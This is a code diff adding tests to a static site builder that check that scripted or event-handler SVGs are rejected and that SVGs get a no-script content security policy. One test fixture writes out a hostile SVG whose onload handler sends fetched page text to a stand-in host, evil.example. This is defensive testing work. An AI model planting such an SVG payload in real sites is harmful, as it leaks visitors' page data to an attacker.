@@ -5,6 +5,8 @@ import { afterAll, describe, expect, it } from 'vitest';
 import { build } from '../../src/build.ts';
 import { formatDiagnosticLine } from '../../src/diagnostics/print.ts';
 import { memoryWriter } from '../../src/output/write.ts';
+import { headersForPath, parseHeadersFile } from '../../src/security/headers-file.ts';
+import { SVG_POLICY } from '../../src/security/headers.ts';
 import { createSite } from '../../templates/site.ts';
 import { smallSiteWith } from '../helpers/fixture-site.ts';
 
@@ -115,5 +117,34 @@ describe('files of the content folder', () => {
     });
     expect(lines).toEqual([]);
     for (const name of media) expect(Buffer.from(writer.files.get(`images/${name}`) ?? []).toString(), name).toBe(name);
+  });
+});
+
+describe('SVG of the content folder', () => {
+  it('refuses an SVG with a script and an onload handler, each at its line, and writes nothing', async () => {
+    const { writer, lines } = await buildWith((content) =>
+      fs.writeFileSync(
+        path.join(content, 'images', 'evil.svg'),
+        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"\n  onload="fetch(\'/\').then(r => r.text()).then(t => navigator.sendBeacon(\'https://evil.example\', t))">\n<script href="/images/x.js"/>\n<script>document.cookie = "ga_consent_v2=granted"</script>\n</svg>\n',
+      ),
+    );
+    expect(writer.files.size).toBe(0);
+    expect(lines).toEqual([
+      expect.stringMatching(/^content\/images\/evil\.svg:1 {2}<svg onload>: is an event-handler attribute, which runs code, found "fetch.*\[unsafe-svg\]$/),
+      'content/images/evil.svg:3  <script>: is not allowed in an SVG of the content folder: it runs code or holds a document that can  [unsafe-svg]',
+      'content/images/evil.svg:4  <script>: is not allowed in an SVG of the content folder: it runs code or holds a document that can  [unsafe-svg]',
+    ]);
+  });
+
+  it('serves every SVG with a policy of its own under which no script runs, even opened directly', async () => {
+    const { writer, lines } = await buildWith(() => {});
+    expect(lines).toEqual([]);
+    const rules = parseHeadersFile(Buffer.from(writer.files.get('_headers')!).toString());
+    for (const svg of ['/images/logo.svg', '/images/badges/secret.svg', '/favicon.svg']) {
+      const policies = headersForPath(rules, svg).get('content-security-policy')!.split(', ');
+      expect(policies, svg).toEqual([expect.stringContaining("script-src 'self'"), SVG_POLICY]);
+    }
+    expect(SVG_POLICY).toMatch(/script-src 'none'.*; sandbox$/);
+    expect(headersForPath(rules, '/images/logo.svg.html').get('content-security-policy')!.split(', ')).toHaveLength(1);
   });
 });
